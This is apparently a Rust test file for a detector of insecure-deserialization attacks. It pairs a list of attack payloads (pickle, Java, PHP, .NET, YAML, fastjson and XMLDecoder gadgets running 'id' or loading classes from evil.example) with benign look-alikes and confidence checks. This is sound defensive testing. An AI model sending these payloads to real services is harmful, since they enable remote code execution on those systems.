use super::super::properties::check_properties;
use super::super::tests::{check_table, confidence};
use super::super::{Context, Detector, Place};

const ATTACKS: &[&str] = &[
    "{\"py/object\":\"__main__.x\",\"x\":{\"py/reduce\":[{\"py/type\":\"a.b\"},{\"py/tuple\":[\"id\"]}]}}",
    "{\"py/object\": \"subprocess.Popen\"}",
    "json.x.py/reduce.array_0.py/type",
    "gASMCGJ1aWx0aW5zlIwEZXZhbJSTlIwqX19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ3VuYW1lIC1hICNtZmVpcCcplIWUUpQu",
    "c\u{2}\0HMt\0\u{17}com.caucho.naming.QNameS",
    "H\u{2}\0CMt\0\u{1d}com.sun.rowset.JdbcRowSetImplS",
    "c\u{2}\0m\0\u{4}saveMt\0\u{1f}com.rometools.rome.feed.impl.EqualsBeanx",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwAC",
    "rO0ABXcEAAAAAA==",
    "data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "aced0005737200116a6176612e7574696c2e486173684d6170",
    "ACED0005737200116A6176612E7574696C2E486173684D6170",
    "O:8:\"Exploit_\":1:{s:1:\"a\";s:2:\"id\";}",
    "O:+8:\"Exploit_\":1:{s:1:\"a\";s:2:\"id\";}",
    "a:1:{i:0;O:20:\"Illuminate\\Broadcast\":2:{s:1:\"x\";N;}}",
    "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}",
    "Tzo4OiJFeHBsb2l0XyI6MTp7czoxOiJhIjtzOjI6ImlkIjt9",
    "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=",
    "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAA",
    "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAZ3aG9hbWmUhZRSlC4=",
    "cos\nsystem\n(S'id'\ntR.",
    "cposix\nsystem\np0\n(S'id'\np1\ntp2\nRp3\n.",
    "(cos\nsystem\nS'id'\no.",
    "(S'id'\nios\nsystem\n.",
    "Y29zCnN5c3RlbQooUydpZCcKdFIu",
    "c__builtin__\neval\n(S'1'\ntR.",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "{\"rce\":\"_$$ND_FUNC$$_function (){}()\"}",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
    "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://x\"}",
    "!!python/object/apply:os.system [\"id\"]",
    "!!python/name:os.system",
    "--- !ruby/object:Gem::Installer\ni: x",
    "--- !ruby/hash:ActionController::Routing\nx: y",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://evil.example/x\",\"autoCommit\":true}",
    "{\"@type\" : \"java.net.Inet4Address\", \"val\":\"x.evil.example\"}",
    "{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\"}",
    "{\"@type\":\"LLcom.sun.rowset.JdbcRowSetImpl;;\"}",
    "{\"@type\":\"[com.sun.rowset.JdbcRowSetImpl\"[{,\"dataSourceName\":\"x\"}",
    "{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"}",
    "{\"@type\":\"java.lang.AutoCloseable\",\"@type\":\"x\"}",
    "{\"@type\":\"org.apache.xbean.propertyeditor.JndiConverter\",\"asText\":\"ldap://x\"}",
    "{\"x\":{\"@type\":\"java.net.InetSocketAddress\"{\"address\":,\"val\":\"x\"}}}",
    "{'@type':'org.apache.shiro.jndi.JndiObjectFactory'}",
    "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://x\"}]",
    "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:\"}]",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\"}",
    "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\"/></java>",
    "<void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\"/><void method=\"start\"/></void>",
    "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\">",
    "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>",
    "<handler class=\"java.beans.EventHandler\"><action>start</action></handler>",
    "<java.util.PriorityQueue serialization='unserializable-parents'>",
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags>",
    "com.sun.rowset.JdbcRowSetImpl",
    "java.lang.AutoCloseable",
    "Lcom.sun.rowset.JdbcRowSetImpl;",
];

const HONEST: &[&str] = &[
    "{\"py/object\":\"his.report.Filter\",\"a\":1}",
    "https://www.example.org/py/reduce-noise",
    "c\u{2}\0m\0\u{4}saveMt\0\u{14}cn.his.model.PatientS",
    "c\u{2}\0 com.sun.rowset is a package",
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "/wEPDwUKLTM0NTY3ODkwDw8WAh4EVGV4dAUFaGVsbG9kZA==",
    "/wEPDwULLTE2MTY2ODcyMjkPFgIeE1ZhbGlkYXRl",
    "/wEdAAVxZ0RnbVZ4a3N0Zm9v",
    "BAh7B0kiD3Nlc3Npb25faWQGOgZFVEki",
    "gAJ9cQAoWAEAAABhcQFLAXUu",
    "a:2:{s:4:\"name\";s:3:\"abc\";i:0;i:1;}",
    "YToxOntzOjE6ImEiO3M6MToiYiI7fQ==",
    "O:",
    "C:\\Users\\wang",
    "O: 5",
    "NO:1:\"a\"",
    "Q: 1 O:2 C:3",
    "{\"@type\":\"Person\",\"name\":\"x\"}",
    "{\"@context\":\"https://schema.org\",\"@type\":\"MedicalClinic\"}",
    "{\"@type\":\"https://schema.org/Person\"}",
    "{\"$type\":\"text\"}",
    "{\"class\":\"btn\",\"type\":\"java\"}",
    "太好了!! 谢谢!!",
    "wow!!python is great",
    "!!important",
    "!!{a}",
    "!!a.b",
    "java.lang.NullPointerException",
    "java.util.ArrayList",
    "java.util.HashMap",
    "java.io.IOException",
    "org.springframework.boot",
    "org.springframework.beans.factory.BeanCreationException",
    "javax.servlet",
    "com.example.Foo",
    "com.tencent.mm",
    "<object width=\"1\" height=\"1\"></object>",
    "<object class=\"x\"></object>",
    "<void>",
    "<java>x</java>",
    "at com.sun.rowset.JdbcRowSetImpl.connect(JdbcRowSetImpl.java:624)",
    "transformer model",
    "optimus (transformers).",
    "first line\n(second line)\nend.",
    "cost\nprice\n(10)\n.",
    "system.web",
    "System.Data",
    "org.apache.tomcat",
    "c\n(a)\n.",
    "rO0",
    "rO0ABCDEFG",
    "gASgas",
    "aced0005",
    "deadbeefaced0005zz",
    "550e8400-e29b-41d4-a716-446655440000",
    "MSH|^~\\&|LIS|HOSP|EMR|HOSP|20261120083000||ORU^R01|MSG00001|P|2.4",
    "Y29zdCBvZiBsaXZpbmcgaW4gYmVpamluZw==",
];

#[test]
fn objects_that_come_to_life_are_confirmed() {
    check_table(Detector::Deser, Context::of(Place::Value), 80, ATTACKS, HONEST);
}

#[test]
fn raw_streams_are_confirmed_in_bodies() {
    let java = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07".as_slice();
    let dotnet = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02".as_slice();
    let ruby = b"\x04\x08[\x08c\x15Gem::SpecFetcherc\x13Gem::Installer".as_slice();
    let pickle = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.".as_slice();
    for bytes in [java, dotnet, ruby, pickle] {
        let sure = confidence(Detector::Deser, bytes, Context::of(Place::BodyText));
        assert!(sure >= 80, "{sure} for {}", bytes.escape_ascii());
    }
    for bytes in
        [b"\x80\x02}q\x00.".as_slice(), b"\xff\xd8\xff\xe0\x00\x10JFIF", b"\x04\x08{\x06I\"\x06a", b"\x89PNG\r\n\x1a\n"]
    {
        let sure = confidence(Detector::Deser, bytes, Context::of(Place::BodyText));
        assert!(sure < 40, "{sure} for {}", bytes.escape_ascii());
    }
}

#[test]
fn deser_findings_meet_the_requirement_in_linear_work() {
    check_properties(
        Detector::Deser,
        &[
            "rO0AB",
            "XNyABFq",
            "aced0005",
            "7372",
            "O:8:\"",
            "Exploit",
            "\":1:{",
            "AAEAAAD/////",
            "gASV",
            "cos\nsystem\n",
            "(S'id'\n",
            "tR.",
            "i",
            "\"@type\":\"",
            "com.sun.rowset.",
            "Jdbc",
            "!!javax.script.X [",
            "!!python/object",
            "<void class=\"java.lang.ProcessBuilder\">",
            "_$$ND_FUNC$$_",
            "/*",
            "*/",
            "\u{4}\u{8}o:",
            "0005",
            "Tzo4",
            "java.lang.Class",
            "{",
            "\"",
            " ",
            "x",
            ":",
        ],
    );
}

#[test]
fn a_segment_of_a_path_may_be_a_stream() {
    let path = "/report/rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA/detail";
    assert!(confidence(Detector::Deser, path.as_bytes(), Context::of(Place::Path)) >= 80);
    assert!(confidence(Detector::Deser, b"/report/rO0AB/detail", Context::of(Place::Path)) < 80);
}
